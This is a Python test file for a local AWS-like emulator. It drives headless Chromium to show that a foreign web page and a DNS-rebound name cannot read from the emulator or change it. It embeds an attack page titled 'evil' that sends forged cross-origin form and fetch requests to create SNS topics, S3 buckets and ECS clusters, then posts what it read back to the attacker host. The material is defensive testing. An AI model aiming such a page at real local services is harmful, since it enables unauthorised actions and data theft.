"""A real browser on this machine: no page of another origin acts in a world, or reads from one, even in an open world.

Source: https://fetch.spec.whatwg.org/ (simple requests go out without a preflight; their answers stay unread without CORS)
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from pushproof.emulator.kernel.settings import WorldSettings
from pushproof.emulator.world import World

_CHROMIUM = next(
    (path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), None
)
pytestmark = pytest.mark.skipif(_CHROMIUM is None, reason="no Chromium here: apt-get install chromium")

# What a page can send without being asked first, and with a preflight; the last line reports what it could read.
_PAGE = """<!doctype html><title>evil</title><form id=f method=post enctype=text/plain target=hidden
 action="WORLD/?Action=CreateTopic&Version=2010-03-31&Name=by-form"></form><iframe name=hidden></iframe><script>
const read = {}
const call = (name, url, options) =>
  fetch(url, options).then(a => a.text()).then(t => { read[name] = t }, e => { read[name] = null })
document.getElementById("f").submit()
Promise.all([
  call("health", "WORLD/_pushproof/health"),
  call("calls", "WORLD/_pushproof/calls", {credentials: "include"}),
  call("opaque", "WORLD/_pushproof/connections/authorise?arn=x", {method: "POST", mode: "no-cors"}),
  call("topic",
       "WORLD/?Action=CreateTopic&Version=2010-03-31&Name=by-get&X-Amz-Credential=a%2F20260101%2Feu-west-1%2Fsns%2Faws4_request",
       {mode: "no-cors"}),
  call("json", "WORLD/", {method: "POST", body: "{}", headers: {"Content-Type": "application/x-amz-json-1.1",
       "X-Amz-Target": "AmazonEC2ContainerServiceV20141113.CreateCluster",
       "Authorization": "AWS4-HMAC-SHA256 Credential=a/20260101/eu-west-1/ecs/aws4_request, SignedHeaders=host, Signature=x"}}),
  call("bucket", "WORLD/by-put", {method: "PUT"}),
]).then(() => fetch("/report", {method: "POST", body: JSON.stringify(read)})).then(() => { document.title = "done" })
</script>"""


class _Site(ThreadingHTTPServer):
    """A foreign web site: one page, and the report that it sends of itself."""

    def __init__(self, world: str) -> None:
        super().__init__(("127.0.0.1", 0), _Pages)
        self.page = _PAGE.replace("WORLD", world).encode()
        self.reports: list[dict[str, str | None]] = []


class _Pages(BaseHTTPRequestHandler):
    server: _Site

    def do_GET(self) -> None:
        self._answer(self.server.page)

    def do_POST(self) -> None:
        self.server.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def world() -> Iterator[World]:
    with World.virtual(WorldSettings(open=True)) as opened:
        opened.serve()
        yield opened


def browse(url: str, profile: Path) -> str:
    """Return the page that a browser makes of an address, where evil.example.com resolves to loopback."""
    assert _CHROMIUM is not None
    command = [
        _CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", f"--user-data-dir={profile}",
        "--no-proxy-server", "--host-resolver-rules=MAP evil.example.com 127.0.0.1", "--virtual-time-budget=20000",
        "--timeout=60000", "--dump-dom", url,
    ]  # fmt: skip
    environment = {**os.environ, "HOME": str(profile)}
    return subprocess.run(command, capture_output=True, text=True, timeout=170, check=False, env=environment).stdout


def test_a_foreign_page_reads_nothing_and_changes_nothing(world: World, tmp_path: Path) -> None:
    """Requests of a page of another origin end at the doors: their answers stay unread, and no call happens."""
    site = _Site(world.endpoint)
    thread = threading.Thread(target=site.serve_forever)
    thread.start()
    before = len(world.gateway.calls)
    try:
        browse(f"http://evil.example.com:{site.server_port}/", tmp_path)
    finally:
        site.shutdown()
        thread.join()
        site.server_close()
    (report,) = site.reports
    assert {name: text for name, text in report.items() if text} == {}
    assert report.keys() == {"health", "calls", "opaque", "topic", "json", "bucket"}
    assert len(world.gateway.calls) == before
    assert world.administrator("sns").list_topics()["Topics"] == []
    assert world.administrator("s3").list_buckets()["Buckets"] == []
    assert world.administrator("ecs").list_clusters()["clusterArns"] == []


def test_a_rebound_name_reads_nothing(world: World, tmp_path: Path) -> None:
    """A name of somebody else's that resolves to loopback is no name of the world; loopback's own is."""
    rebound = browse(f"http://evil.example.com:{world.port}/_pushproof/health", tmp_path)
    assert "does not answer to" in rebound
    assert world.id not in rebound
    assert world.id in browse(f"http://127.0.0.1:{world.port}/_pushproof/health", tmp_path)
